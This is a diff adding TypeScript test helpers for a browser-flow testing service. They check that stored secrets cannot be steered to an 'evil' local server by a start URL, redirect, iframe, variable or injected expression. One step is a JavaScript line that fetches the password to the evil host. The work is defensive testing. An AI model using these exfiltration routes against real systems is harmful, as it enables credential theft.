@@ -1,0 +1,128 @@
+import { expect } from 'bun:test'
+import type { Answer } from '../fakes.ts'
+
+/** What typed secrets are: long enough to be found in whatever form they are sent. */
+const SECRET = 'correct-horse-battery'
+
+/** A page that sends what is typed into it to its own server, key by key. */
+const FORM = `<!doctype html><title>Sign in</title><input id=pass><button id=buy>Buy</button>
+<script>pass.oninput = () => fetch('/typed?v=' + encodeURIComponent(pass.value))</script>`
+
+/** Two sites: of the recording, and of whoever wants its secrets. Gone at the end of its block. */
+export interface TwoSites extends Disposable {
+  shop: string
+  evil: string
+  /** Addresses that each was asked for. */
+  askedOf: { shop: string[]; evil: string[] }
+}
+
+export function openTwoSites(): TwoSites {
+  const askedOf: TwoSites['askedOf'] = { shop: [], evil: [] }
+  const site = (name: 'shop' | 'evil', answer: (path: string) => Response | null) =>
+    Bun.serve({
+      ...{ hostname: '127.0.0.1', port: 0 },
+      fetch({ url }) {
+        askedOf[name].push(url)
+        return answer(new URL(url).pathname) ?? new Response(FORM, { headers: { 'content-type': 'text/html' } })
+      },
+    })
+  const evil = site('evil', () => null)
+  const evilUrl = `http://127.0.0.1:${evil.port}`
+  const shop = site('shop', (path) => {
+    if (path === '/away') return Response.redirect(`${evilUrl}/`)
+    const frame = `<!doctype html><iframe src="${evilUrl}/" width=400 height=200></iframe>`
+    return path === '/framed' ? new Response(frame, { headers: { 'content-type': 'text/html' } }) : null
+  })
+  return {
+    ...{ shop: `http://127.0.0.1:${shop.port}`, evil: evilUrl, askedOf },
+    [Symbol.dispose]() {
+      void shop.stop(true)
+      void evil.stop(true)
+    },
+  }
+}
+
+/** The program under attack: an API, and a way to wait for a run. */
+export interface Attacked {
+  call(method: string, path: string, body?: object): Promise<Pick<Answer, 'status' | 'body'>>
+  ended(runId: string): Promise<{ status: string; error: string | null }>
+}
+
+const open = (url: string) => ({ type: 'navigate', url })
+const TYPE = { type: 'change', selectors: ['#pass'], value: '{{password}}' }
+const wait = (expression: string) => ({ type: 'waitForExpression', expression, timeout: 1000 })
+
+const flow = (steps: object[], more: object = {}) => ({
+  ...{ name: 'Sign in', recording: { title: 'Sign in', timeout: 1200, steps }, retries: 0 },
+  ...{ secrets: { password: SECRET }, ...more },
+})
+
+/** Makes a test that somebody else entered the secret of, and returns its id. */
+async function made({ call }: Attacked, steps: object[], more: object = {}): Promise<string> {
+  const { status, body } = await call('POST', '/v1/flows/tests', flow(steps, more))
+  expect([status, body.error ?? null]).toEqual([201, null])
+  return body.id
+}
+
+async function walked({ call, ended }: Attacked, id: string, input: object = {}) {
+  const { status, body } = await call('POST', `/v1/flows/tests/${id}/run`, input)
+  expect([status, body.error ?? null]).toEqual([201, null])
+  return ended(body.id)
+}
+
+/** Tries whatever would take a stored secret to another host, and that each refusal names its field. */
+export async function attackByRequests(world: Attacked, { shop, evil }: TwoSites): Promise<void> {
+  const { call } = world
+  const steps = [open(`${shop}/`), TYPE]
+  const id = await made(world, steps, { variables: { host: new URL(shop).host, text: 'x' } })
+  const put = (change: object) =>
+    call('PUT', `/v1/flows/tests/${id}`, { ...flow(steps), secrets: undefined, ...change })
+  const otherSteps = (...more: object[]) => ({ recording: { title: '', steps: more } })
+  const changes: Record<string, object> = {
+    'a start page': { startUrl: `${evil}/` },
+    'a first page': otherSteps(open(`${evil}/`), TYPE),
+    'a later page': otherSteps(...steps, open(`${evil}/`), TYPE),
+    'a page by a variable': { ...otherSteps(open('http://{{host}}/'), TYPE), variables: { host: new URL(evil).host } },
+    'a frame': otherSteps(...steps, { ...TYPE, target: `${evil}/` }),
+    'a named host': { secretHosts: [new URL(evil).host] },
+    'an expression': otherSteps(...steps, wait(`fetch('${evil}/?' + pass.value)`)),
+    'a kept value': { startUrl: `${evil}/`, secrets: { password: null } },
+    'one secret entered, another kept': { startUrl: `${evil}/`, secrets: { other: 'x', password: null } },
+  }
+  for (const [what, change] of Object.entries(changes)) {
+    const { status, body } = await put(change)
+    expect([what, status]).toEqual([what, 400])
+    expect(body.error).toMatch(/^secrets\.password: enter it again/)
+  }
+  const start = await call('POST', `/v1/flows/tests/${id}/run`, { startUrl: `${evil}/` })
+  expect(start).toMatchObject({ status: 400, body: { error: expect.stringMatching(/^startUrl: .*password/) } })
+  // The same with what was entered: it is the person's own.
+  expect((await put({ startUrl: `${evil}/`, secrets: { password: 'mine' } })).status).toBe(200)
+}
+
+/** Tries whatever leads a run of the test itself to another host. */
+export async function attackByRuns(world: Attacked, sites: TwoSites): Promise<void> {
+  const { shop, evil, askedOf } = sites
+  const evilRun = async (what: string, id: string, input: object = {}) => {
+    const { status, error } = await walked(world, id, input)
+    expect([what, status]).toEqual([what, 'failed'])
+    expect(error).toMatch(/are not sent to 127\.0\.0\.1:\d+/)
+  }
+  await evilRun('a redirect', await made(world, [open(`${shop}/away`), TYPE]))
+  await evilRun('an element of a frame', await made(world, [open(`${shop}/framed`), { ...TYPE, frame: [0] }]))
+  await evilRun(
+    'an expression after a redirect',
+    await made(world, [open(`${shop}/away`), wait("'{{password}}' == 1")]),
+  )
+  expect(askedOf.evil.length).toBeGreaterThan(0)
+  expect(askedOf.evil.filter((url) => /typed|horse/.test(url))).toEqual([])
+
+  // Where it is bound, and where it is entered for, it goes.
+  const id = await made(world, [open(`${shop}/`), TYPE, wait("document.querySelector('#pass').value.length > 5")])
+  expect(await walked(world, id)).toMatchObject({ status: 'passed' })
+  expect(askedOf.shop.some((url) => url.includes(SECRET))).toBe(true)
+  const preview = { startUrl: `${evil}/`, secrets: { password: 'entered-again' } }
+  expect(await walked(world, id, preview)).toMatchObject({ status: 'passed' })
+  expect(askedOf.evil.some((url) => url.includes('entered-again'))).toBe(true)
+  expect(askedOf.evil.filter((url) => url.includes('horse'))).toEqual([])
+}
